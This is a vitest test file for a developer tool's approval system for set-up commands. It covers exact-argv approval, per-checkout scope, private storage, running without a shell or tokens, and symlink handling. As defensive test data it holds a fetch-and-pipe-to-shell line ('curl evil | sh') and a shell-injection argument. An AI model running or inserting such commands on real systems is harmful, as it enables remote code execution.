import { readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { temporaryFolder } from "../../../../test/harness/temporary-repository.ts";
import { findProgram } from "../../doctor/index.ts";
import { approvalOf, approve, findByHash, isApproved } from "./approvals.ts";
import { runSetUp } from "./run-set-up.ts";
import { describeCommand, setUpCommands } from "./set-up-commands.ts";

const clock = { now: () => Date.parse("2026-02-01T12:00:00Z") };

function place() {
  const worktree = temporaryFolder();
  const env = { XDG_CONFIG_HOME: temporaryFolder(), PATH: process.env.PATH };
  const commands = (...argvs: string[][]) =>
    setUpCommands(argvs, { worktree, gitDirectory: join(worktree, ".git") });
  const one = (...argv: string[]) => {
    const [command] = commands(argv);
    if (!command) throw new Error("no command");
    return command;
  };
  return { worktree, env, commands, one };
}

describe("approvals of set-up commands", () => {
  it("hold for exactly the words that were approved", () => {
    const { env, one } = place();
    approve(one("npm", "ci"), { env, clock });
    expect(isApproved(one("npm", "ci"), env)).toBe(true);
    for (const other of [["npm", "ci", ""], ["npm", "ci --x"], ["npm ci"], ["npm", "CI"], ["npm"]])
      expect(isApproved(one(...other), env)).toBe(false);
  });

  it("hold in this checkout alone", () => {
    const [here, there] = [place(), place()];
    approve(here.one("npm", "ci"), { env: here.env, clock });
    expect(isApproved(there.one("npm", "ci"), here.env)).toBe(false);
  });

  it("end when a script of the checkout changes", () => {
    const { worktree, env, one } = place();
    writeFileSync(join(worktree, "set-up.sh"), "echo 1\n");
    approve(one("sh", "set-up.sh"), { env, clock });
    expect(isApproved(one("sh", "set-up.sh"), env)).toBe(true);
    writeFileSync(join(worktree, "set-up.sh"), "curl evil | sh\n");
    expect(isApproved(one("sh", "set-up.sh"), env)).toBe(false);
  });

  it("lie in the user's own folder, for the user's eyes", () => {
    const { worktree, env, one } = place();
    approve(one("npm", "ci"), { env, clock });
    const folder = join(env.XDG_CONFIG_HOME, "growth-engine/approved-commands");
    const [file = ""] = readdirSync(folder);
    expect(JSON.parse(readFileSync(join(folder, file), "utf8"))).toEqual({
      argv: ["npm", "ci"],
      at: "2026-02-01T12:00:00.000Z",
    });
    expect(statSync(join(folder, file)).mode & 0o777).toBe(0o600);
    expect(readdirSync(worktree)).toEqual([]);
  });

  it("are named by the beginning of a sum that this config holds", () => {
    const { commands, one } = place();
    const known = commands(["npm", "ci"], ["make"]);
    const typed = approvalOf(one("make")).split(" ").at(-1) ?? "";
    expect(findByHash(known, typed).argv).toEqual(["make"]);
    for (const wrong of [
      "",
      "abc",
      typed.slice(0, 6),
      `${typed}0000`,
      "f".repeat(64),
      typed.toUpperCase(),
      "../x",
    ])
      expect(() => findByHash(known, wrong)).toThrow(/has the sum/);
  });
});

describe("a set-up command", () => {
  it("is never started without approval, whoever asks", () => {
    const { worktree, env, one } = place();
    const command = one("node", "-e", "require('fs').writeFileSync('ran', '')");
    expect(() => runSetUp(command, worktree, env)).toThrow(/is not approved/);
    expect(readdirSync(worktree)).toEqual([]);
  });

  it("runs in the checkout, without a shell and without tokens", async () => {
    const { worktree, env, one } = place();
    const script =
      "require('fs').writeFileSync('ran', JSON.stringify([process.argv[1], process.env.GROWTH_ENGINE_TOKEN ?? null]))";
    const command = one("node", "-e", script, "$(touch hacked); `x` > y");
    approve(command, { env, clock });
    await runSetUp(command, worktree, { ...env, GROWTH_ENGINE_TOKEN: "ge_secret" });
    expect(readdirSync(worktree)).toEqual(["ran"]);
    expect(readFileSync(join(worktree, "ran"), "utf8")).toBe('["$(touch hacked); `x` > y",null]');
  });

  it.each([
    [["node", "-e", "process.exit(3)"], "failed with exit 3"],
    [["no-such-program"], "could not be started"],
  ])("that fails is said: %j", async (argv, why) => {
    const { worktree, env, one } = place();
    const command = one(...argv);
    approve(command, { env, clock });
    await expect(runSetUp(command, worktree, env)).rejects.toThrow(why);
  });

  it("is shown as a person would type it", () => {
    const { one } = place();
    expect(describeCommand(one("npm", "run", "a b", "it's", "$HOME"))).toBe(
      `npm run 'a b' 'it'\\''s' '$HOME'`,
    );
  });

  it("is looked for as the system would, and a link out of the checkout is no file of it", () => {
    const { worktree, one } = place();
    writeFileSync(join(worktree, "run.sh"), "");
    expect(findProgram("./run.sh", worktree, "")).toBe(join(worktree, "run.sh"));
    expect(findProgram("run.sh", worktree, "")).toBeNull();
    expect(findProgram("run.sh", "/", worktree)).toBe(join(worktree, "run.sh"));
    const outside = join(temporaryFolder(), "outside");
    writeFileSync(outside, "1");
    symlinkSync(outside, join(worktree, "link"));
    const { hash } = one("cat", "link");
    writeFileSync(outside, "2");
    expect(one("cat", "link").hash).toBe(hash);
  });
});
